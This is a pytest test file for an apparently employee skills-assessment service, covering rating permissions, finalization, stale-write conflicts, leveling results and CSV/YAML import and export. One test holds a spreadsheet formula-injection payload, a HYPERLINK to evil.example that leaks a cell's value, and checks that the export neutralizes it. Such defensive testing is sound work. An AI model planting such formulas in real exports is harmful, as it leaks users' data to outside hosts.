"""Assessments: who may rate, submit and finalize; finalized is read-only; stale writes are
refused; the official result is the finalized manager assessment."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillgrid.domain.assessments import OPERATOR, Actor, AssessmentError, Entry, Forbidden, State
from skillgrid.domain.errors import Conflict, InputError, NotFound
from skillgrid.domain.leveling import Rating, level
from skillgrid.domain.people import Role
from skillgrid.formulas import TRIGGERS
from skillgrid.services import (
    assessment_files,
    assessments,
    cycles,
    frameworks,
    people_import,
    results,
)
from tests.unit.fakes import FakeUnitOfWork
from tests.unit.test_leveling import MAC, sre, through

PEOPLE = (
    b"name,email,team,manager_email,role\n"
    b"Bo,bo@x.org,SRE,,manager\nAna,ana@x.org,SRE,bo@x.org,engineer\n"
    b"Cy,cy@x.org,SRE,bo@x.org,engineer\nAd,ad@x.org,,,admin\n"
)
people_ratings = st.dictionaries(
    st.sampled_from([c.id for c in sre().criteria]),
    st.sampled_from(
        [Rating.NOT_YET, Rating.DEVELOPING, Rating.MEETS, Rating.EXCEEDS, Rating.NOT_APPLICABLE]
    ),
)
BO, ANA, CY = (
    Actor("bo@x.org", Role.MANAGER),
    Actor("ana@x.org", Role.ENGINEER),
    Actor("cy@x.org", Role.ENGINEER),
)


@pytest.fixture
def uow() -> FakeUnitOfWork:
    uow = FakeUnitOfWork()
    frameworks.install_builtin(uow, actor=OPERATOR)
    people_import.import_people(uow, PEOPLE, "people.csv", actor=OPERATOR)
    cycles.open_cycle(uow, "2026-H1", "sre", actor=OPERATOR)
    cycles.open_cycle(uow, "2026-H2", "sre", actor=OPERATOR)
    return uow


def entries(ratings: dict[str, Rating]) -> dict[str, Entry]:
    return {
        cid: Entry(r, "not our stack" if r is Rating.NOT_APPLICABLE else None)
        for cid, r in ratings.items()
    }


def finalize_manager(uow, cycle: str, ratings: dict[str, Rating]) -> None:
    assessments.rate(uow, BO, "ana@x.org", cycle, "manager", entries(ratings))
    assessments.submit(uow, BO, "ana@x.org", cycle, "manager")
    assessments.finalize(uow, BO, "ana@x.org", cycle)


def test_the_author_rates_and_submits_and_only_the_manager_finalizes(uow) -> None:
    saved = assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", entries(through(1)))
    assert saved.state is State.DRAFT and len(saved.entries) == 15
    with pytest.raises(NotFound):  # a colleague is not told the assessment exists
        assessments.rate(uow, CY, "ana@x.org", "2026-H2", "self", entries(through(1)))
    assessments.submit(uow, ANA, "ana@x.org", "2026-H2", "self")
    assessments.rate(uow, BO, "ana@x.org", "2026-H2", "manager", entries(through(1)))
    assessments.submit(uow, BO, "ana@x.org", "2026-H2", "manager")
    with pytest.raises(Forbidden, match=r"ana@x\.org may not finalize"):
        assessments.finalize(uow, ANA, "ana@x.org", "2026-H2", "manager")
    with pytest.raises(NotFound):
        assessments.finalize(uow, CY, "ana@x.org", "2026-H2", "manager")
    done = assessments.finalize(uow, BO, "ana@x.org", "2026-H2", "manager")
    assert done.state is State.FINALIZED


def test_a_self_assessment_is_never_finalized_not_even_by_the_manager(uow) -> None:
    assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", entries(through(1)))
    assessments.submit(uow, ANA, "ana@x.org", "2026-H2", "self")
    for who in (BO, OPERATOR):
        with pytest.raises(AssessmentError, match="the self assessment is not finalized"):
            assessments.finalize(uow, who, "ana@x.org", "2026-H2", "self")
    stored, _ = assessments.get_assessment(uow, ANA, "ana@x.org", "2026-H2", "self")
    assert stored.state is State.SUBMITTED


def test_a_finalized_assessment_is_read_only(uow) -> None:
    finalize_manager(uow, "2026-H2", through(2))
    with pytest.raises(AssessmentError, match="finalized and read-only"):
        assessments.rate(uow, BO, "ana@x.org", "2026-H2", "manager", entries(through(3)))
    with pytest.raises(AssessmentError, match="finalized"):
        assessments.submit(uow, OPERATOR, "ana@x.org", "2026-H2", "manager")


def test_a_write_based_on_an_old_revision_is_refused_and_loses_nothing(uow) -> None:
    first = assessments.rate(uow, BO, "ana@x.org", "2026-H2", "manager", entries(through(1)))
    assessments.rate(
        uow,
        BO,
        "ana@x.org",
        "2026-H2",
        "manager",
        entries({"PO.2.1": Rating.MEETS}),
        revision=first.revision,
    )
    with pytest.raises(Conflict, match="reload it"):
        assessments.rate(
            uow,
            BO,
            "ana@x.org",
            "2026-H2",
            "manager",
            entries({"CW.2.1": Rating.MEETS}),
            revision=first.revision,
        )
    stored = uow.assessments.get("ana@x.org", "2026-H2", "manager")
    assert len(stored.entries) == 16


def test_bad_ratings_are_refused_with_every_reason(uow) -> None:
    bad = {"PO.9.9": Entry(Rating.MEETS), MAC: Entry(Rating.NOT_APPLICABLE)}
    with pytest.raises(InputError) as caught:
        assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", bad)
    messages = [p.message for p in caught.value.problems]
    assert any("unknown criterion 'PO.9.9'" in m for m in messages)
    assert any("n/a for SEC.3.8 needs a reason" in m for m in messages)
    assert uow.assessments.stored == {}


def test_raters_must_make_sense(uow) -> None:
    with pytest.raises(AssessmentError, match="own peer"):
        assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "ana@x.org", {})
    with pytest.raises(AssessmentError, match="no manager on file"):
        assessments.rate(uow, OPERATOR, "bo@x.org", "2026-H2", "manager", {})
    with pytest.raises(NotFound, match=r"no person zed@x\.org"):
        assessments.rate(uow, OPERATOR, "zed@x.org", "2026-H2", "self", {})
    with pytest.raises(NotFound, match="no cycle '2031'"):
        assessments.rate(uow, OPERATOR, "ana@x.org", "2031", "self", {})


def test_a_closed_cycle_takes_no_more_ratings(uow) -> None:
    cycles.set_cycle_open(uow, "2026-H2", False, actor=OPERATOR)
    with pytest.raises(AssessmentError, match="closed"):
        assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", entries(through(1)))


def test_official_result_is_the_finalized_manager_assessment_never_the_self_rating(uow) -> None:
    finalize_manager(uow, "2026-H1", through(2))
    finalize_manager(uow, "2026-H2", through(3, except_ids=(MAC,)))
    assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", entries(through(6)))
    draft = results.person_report(uow, OPERATOR, "ana@x.org")
    assert all(not line.others for line in draft.lines)  # a draft is its author's own
    assessments.submit(uow, ANA, "ana@x.org", "2026-H2", "self")
    report = results.person_report(uow, OPERATOR, "ana@x.org")
    assert report.current.cycle.name == "2026-H2"
    assert report.current.result.overall == 2
    assert report.current.result.gap_ids == [MAC]
    assert report.change == {"PO": 1, "CW": 1, "NET": 1, "SEC": 0, "SE": 1, "SRE": 1}
    line = next(line for line in report.lines if line.criterion.id == MAC)
    assert line.differences == {"self": "higher"}
    assert [h.cycle.name for h in report.history] == ["2026-H1", "2026-H2"]


def test_stored_leveling_agrees_with_the_what_if_engine(uow) -> None:
    ratings = {
        **through(3, except_ids=(MAC,)),
        "SRE.4.1": Rating.EXCEEDS,
        "NET.2.3": Rating.NOT_APPLICABLE,
    }
    finalize_manager(uow, "2026-H2", ratings)
    report = results.person_report(uow, OPERATOR, "ana@x.org", "2026-H2")
    assert report.current.result == level(sre(), ratings)


def test_people_see_only_their_own_and_their_reports(uow) -> None:
    finalize_manager(uow, "2026-H2", through(1))
    assert results.person_report(uow, BO, "ana@x.org").person.email == "ana@x.org"
    assert results.person_report(uow, ANA, "ana@x.org").person.email == "ana@x.org"
    with pytest.raises(NotFound):
        results.person_report(uow, CY, "ana@x.org")


def test_export_then_import_keeps_every_rating(uow) -> None:
    ratings = {**through(2), MAC: Rating.NOT_APPLICABLE}
    assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", entries(ratings))
    text = assessment_files.export_ratings(uow, ANA, "ana@x.org", "2026-H2", "self")
    assessment_files.import_ratings(
        uow, OPERATOR, "cy@x.org", "2026-H2", "self", text.encode(), "ana.csv"
    )
    again = assessment_files.export_ratings(uow, OPERATOR, "cy@x.org", "2026-H2", "self")
    assert again == text


def test_a_comment_that_looks_like_a_formula_is_exported_quoted_and_read_back_as_written(
    uow,
) -> None:
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"see evidence")'
    ratings = {
        "PO.1.1": Entry(Rating.MEETS, comment=link),
        "PO.2.1": Entry(Rating.MEETS, comment="'@already quoted"),
        MAC: Entry(Rating.NOT_APPLICABLE, "-no Linux hosts"),
    }
    assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", ratings)
    text = assessment_files.export_ratings(uow, ANA, "ana@x.org", "2026-H2", "self")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + link in cells and "''@already quoted" in cells and "'-no Linux hosts" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assessment_files.import_ratings(
        uow, OPERATOR, "cy@x.org", "2026-H2", "self", text.encode(), "a.csv"
    )
    again, framework = assessments.get_assessment(uow, OPERATOR, "cy@x.org", "2026-H2", "self")
    by_id = {c.uid: c.id for c in framework.criteria}
    assert {by_id[uid]: entry for uid, entry in again.entries.items()} == ratings


YAML_ASSESSMENT = b"""
ratings:
  - {criterion: PO.1.1, rating: meets}
  - {criterion: SEC.3.8, rating: n/a, reason: we run no Linux hosts, comment: all managed}
evidence:
  - title: Design doc for the billing service
    url: https://docs.example/billing
    date: 2026-04-02
    source: design
    criteria: [PO.1.1]
"""


def test_a_yaml_assessment_brings_its_evidence(uow) -> None:
    saved = assessment_files.import_ratings(
        uow, ANA, "ana@x.org", "2026-H2", "self", YAML_ASSESSMENT, "me.yaml"
    )
    assert len(saved.entries) == 2
    items = uow.evidence.for_person("ana@x.org")
    assert [(e.title, e.source, str(e.date)) for e in items] == [
        ("Design doc for the billing service", "design", "2026-04-02")
    ]
    exported = assessment_files.export_ratings(uow, ANA, "ana@x.org", "2026-H2", "self")
    assert "SEC.3.8,n/a,we run no Linux hosts,all managed" in exported


def test_a_bad_yaml_assessment_names_each_item_and_stores_nothing(uow) -> None:
    bad = (
        b"ratings:\n  - {criterion: PO.9.1, rating: meets}\n  - {criterion: PO.1.1, rating: n/a}\n"
    )
    with pytest.raises(InputError) as caught:
        assessment_files.import_ratings(uow, ANA, "ana@x.org", "2026-H2", "self", bad, "me.yaml")
    messages = [p.message for p in caught.value.problems]
    assert messages == [
        "ratings[0]: unknown criterion 'PO.9.1'",
        "ratings[1]: n/a for PO.1.1 has no reason",
    ]
    assert uow.assessments.stored == {} and uow.evidence.items == []


@settings(max_examples=40, deadline=None)
@given(ratings=people_ratings)
def test_what_if_and_the_stored_official_result_always_agree(ratings) -> None:
    uow = FakeUnitOfWork()
    frameworks.install_builtin(uow, actor=OPERATOR)
    people_import.import_people(uow, PEOPLE, "people.csv", actor=OPERATOR)
    cycles.open_cycle(uow, "2026-H2", "sre", actor=OPERATOR)
    finalize_manager(uow, "2026-H2", ratings)
    stored = results.person_report(uow, OPERATOR, "ana@x.org").current.result
    assert stored == level(sre(), ratings)


def test_a_draft_is_read_only_by_its_author_until_it_is_submitted(uow) -> None:
    assessments.rate(uow, BO, "ana@x.org", "2026-H2", "manager", entries(through(1)))
    # an uninvited colleague naming themselves as the peer learns nothing, not even that
    # Ana exists; nobody invites themselves
    with pytest.raises(NotFound, match=r"no person ana@x\.org"):
        assessments.rate(uow, CY, "ana@x.org", "2026-H2", "cy@x.org", entries(through(1)))
    with pytest.raises(NotFound, match=r"no person ana@x\.org"):
        assessments.invite_peer(uow, CY, "ana@x.org", "2026-H2", "cy@x.org")
    assessments.invite_peer(uow, ANA, "ana@x.org", "2026-H2", "cy@x.org")
    assessments.rate(uow, CY, "ana@x.org", "2026-H2", "cy@x.org", entries(through(1)))
    with pytest.raises(Forbidden, match="is a draft"):
        assessment_files.export_ratings(uow, ANA, "ana@x.org", "2026-H2", "manager")
    with pytest.raises(Forbidden, match="is a draft"):
        assessment_files.export_ratings(uow, BO, "ana@x.org", "2026-H2", "cy@x.org")
    assert assessment_files.export_ratings(uow, CY, "ana@x.org", "2026-H2", "cy@x.org")
    assessments.submit(uow, BO, "ana@x.org", "2026-H2", "manager")
    assert assessment_files.export_ratings(uow, ANA, "ana@x.org", "2026-H2", "manager")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (b"- a\n- b\n", "expected a mapping"),
        (
            b"ratings: [{criterion: PO.1.1, rating: meets}]\nevidence: [{title: x, url: 5}]\n",
            "url must be text",
        ),
        (
            b"ratings: [{criterion: PO.1.1, rating: meets}]\n"
            b"evidence: [{title: x, date: 2026-02-30}]\n",
            "invalid YAML value",
        ),
    ],
)
def test_odd_yaml_assessments_are_clean_errors(uow, text: bytes, message: str) -> None:
    with pytest.raises(InputError, match=message):
        assessment_files.import_ratings(uow, ANA, "ana@x.org", "2026-H2", "self", text, "me.yaml")
    assert uow.assessments.stored == {} and uow.evidence.items == []


def test_importing_the_same_yaml_twice_adds_its_evidence_once(uow) -> None:
    single = YAML_ASSESSMENT.replace(b"criteria: [PO.1.1]", b"criteria: PO.1.1")
    for _ in range(2):
        assessment_files.import_ratings(uow, ANA, "ana@x.org", "2026-H2", "self", single, "me.yaml")
    assert len(uow.evidence.items) == 1
